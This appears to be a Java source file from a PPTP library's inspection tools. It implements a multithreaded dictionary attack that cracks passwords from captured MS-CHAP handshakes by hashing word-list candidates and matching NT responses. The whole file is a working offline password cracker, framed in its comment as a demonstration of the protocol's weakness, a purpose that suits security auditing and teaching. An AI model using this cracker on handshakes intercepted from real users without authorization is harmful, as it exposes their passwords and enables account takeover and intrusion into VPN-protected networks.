package io.pptp4j.tools.inspect;

import io.pptp4j.inspect.ChapHandshake;
import io.pptp4j.wire.Bytes;
import java.io.BufferedReader;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A dictionary attack on captured MS-CHAP handshakes, to show the risk: each candidate's NT password hash
 * (MD4 of UTF-16LE, RFC 2759 8.3) is tried against every handshake's NT response (RFC 2759 8.5: DES of the
 * 8-octet challenge under the hash, zero padded). The word list is read in batches, each batch spread over
 * the threads; it stops when every handshake is cracked or the list ends.
 */
final class DictionaryAttack {
    private static final int BATCH = 8192;

    /** A handshake's password, found; {@code password} null when the list did not have it. */
    record Result(ChapHandshake handshake, String password) {}

    record Outcome(List<Result> results, long candidates, long nanos, int threads) {
        double rate() { return nanos == 0 ? 0 : candidates * 1e9 / nanos; }
    }

    private DictionaryAttack() {}

    static Outcome run(List<ChapHandshake> handshakes, Path wordlist, int threads) throws IOException {
        List<ChapHandshake> targets = handshakes.stream().filter(ChapHandshake::msChap).toList();
        Bytes[] challenges = new Bytes[targets.size()];
        for (int i = 0; i < targets.size(); i++) {
            challenges[i] = targets.get(i).desChallenge();
        }
        Map<Integer, String> found = new ConcurrentHashMap<>();
        AtomicLong tried = new AtomicLong();
        long start = System.nanoTime();
        ExecutorService pool = Executors.newFixedThreadPool(threads, r -> {
            Thread t = new Thread(r, "pptp4j-wordlist");
            t.setDaemon(true);
            return t;
        });
        try (BufferedReader in = Files.newBufferedReader(wordlist, StandardCharsets.UTF_8)) {
            List<String> batch = new ArrayList<>(BATCH);
            boolean more = true;
            while (more && found.size() < targets.size()) {
                batch.clear();
                String line;
                while (batch.size() < BATCH && (line = in.readLine()) != null) {
                    batch.add(line);
                }
                more = batch.size() == BATCH;
                List<Future<?>> parts = new ArrayList<>(threads);
                int per = (batch.size() + threads - 1) / threads;
                for (int t = 0; t < threads && t * per < batch.size(); t++) {
                    List<String> part = batch.subList(t * per, Math.min(batch.size(), (t + 1) * per));
                    parts.add(pool.submit(() -> {
                        NtResponseChecker checker = new NtResponseChecker(List.of(challenges),
                                targets.stream().map(ChapHandshake::ntResponse).toList());
                        for (String candidate : part) {
                            checker.hash(candidate);
                            for (int i = 0; i < challenges.length; i++) {
                                if (checker.matches(i)) {
                                    found.putIfAbsent(i, candidate);
                                }
                            }
                        }
                        tried.addAndGet(part.size());
                    }));
                }
                for (Future<?> f : parts) {
                    try {
                        f.get();
                    } catch (java.util.concurrent.ExecutionException e) {
                        throw new IllegalStateException(e.getCause());
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                        throw new IOException("interrupted", e);
                    }
                }
            }
        } finally {
            pool.shutdownNow();
        }
        long nanos = System.nanoTime() - start;
        List<Result> results = new ArrayList<>();
        for (int i = 0; i < targets.size(); i++) {
            results.add(new Result(targets.get(i), found.get(i)));
        }
        return new Outcome(results, tried.get(), nanos, threads);
    }

}
